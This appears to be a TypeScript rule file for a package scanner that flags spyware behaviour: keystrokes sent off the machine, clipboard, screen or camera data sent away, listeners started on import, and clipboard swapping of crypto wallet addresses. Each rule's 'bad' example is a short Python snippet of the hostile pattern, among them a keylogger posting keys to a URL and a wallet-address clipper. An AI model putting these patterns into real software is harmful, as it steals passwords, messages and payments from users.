import type { Rule } from '../../../core/rule.ts';
import { CWE_200, CWE_506 } from '../../code/references.ts';

const FIX =
  'Do not install or import it. If it ran already, change what was typed and copied since then, from another machine.';

export const RULES = {
  'keystrokes-sent': {
    title: 'Keystrokes leave the machine',
    severity: 'critical',
    message: '{when}, {callee} sends {what} to {to}',
    why: 'What is typed holds passwords and messages. A library that listens to the keyboard of the whole machine and also sends is a keylogger.',
    fix: FIX,
    references: [CWE_200, CWE_506],
    example: {
      bad: 'def press(key): requests.post(url, data=str(key))\nkeyboard.Listener(on_press=press).start()',
      good: 'keyboard.add_hotkey("ctrl+q", stop)',
    },
  },
  'user-observed': {
    title: 'Screen, clipboard or camera are sent away without being asked',
    severity: 'high',
    message: '{when}, {callee} sends {what} to {to}',
    why: 'Nobody asked for it: it happens by itself, or goes to a messenger that belongs to nobody in particular.',
    fix: FIX,
    references: [CWE_200, CWE_506],
    example: {
      bad: 'requests.post(webhook, data=pyperclip.paste())',
      good: 'def share(picture): requests.post(url, files={"picture": picture})',
    },
  },
  'observation-sent': {
    title: 'A function sends screen, clipboard or camera away',
    severity: 'low',
    message: '{when}, {callee} sends {what} to {to}',
    why: 'Remote help and automation do that on purpose. Where a package is for something else, it is not its business.',
    fix: 'Make sure that this is what the package is for.',
    references: [CWE_200],
    example: {
      bad: 'def share(): requests.post(url, data=pyperclip.paste())',
      good: 'def share(text): requests.post(url, data=text)',
    },
  },
  'keyboard-watched': {
    title: 'The keyboard of the whole machine is watched on import',
    severity: 'medium',
    message: '{when}, {callee} begins to listen to every key that is pressed',
    why: 'The listener hears what is typed into any program, passwords included, and starts without being asked.',
    fix: 'Start the listener in a function that the user calls, and only for the keys that are needed.',
    references: [CWE_200],
    example: {
      bad: 'keyboard.on_press(remember)',
      good: 'def start(): keyboard.add_hotkey("ctrl+q", stop)',
    },
  },
  'user-watched': {
    title: 'Screen, clipboard or camera are read on import',
    severity: 'low',
    message: '{when}, {callee} reads {what}',
    why: 'Importing a module should define names and do nothing else.',
    fix: 'Move it into a function that the user calls.',
    references: [CWE_200],
    example: {
      bad: 'START = pyautogui.screenshot()',
      good: 'def picture(): return pyautogui.screenshot()',
    },
  },
  'address-swapped': {
    title: 'Addresses of wallets are exchanged in the clipboard',
    severity: 'critical',
    message: '{when}, {callee} replaces what was copied when it looks like the address of a wallet',
    why: 'Who pastes the address pays somebody else. There is no honest use for it.',
    fix: FIX,
    references: [CWE_506],
    example: {
      bad: 'if re.match("^0x[a-fA-F0-9]{40}$", pyperclip.paste()): pyperclip.copy(mine)',
      good: 'pyperclip.copy(address)',
    },
  },
} satisfies Record<string, Rule>;
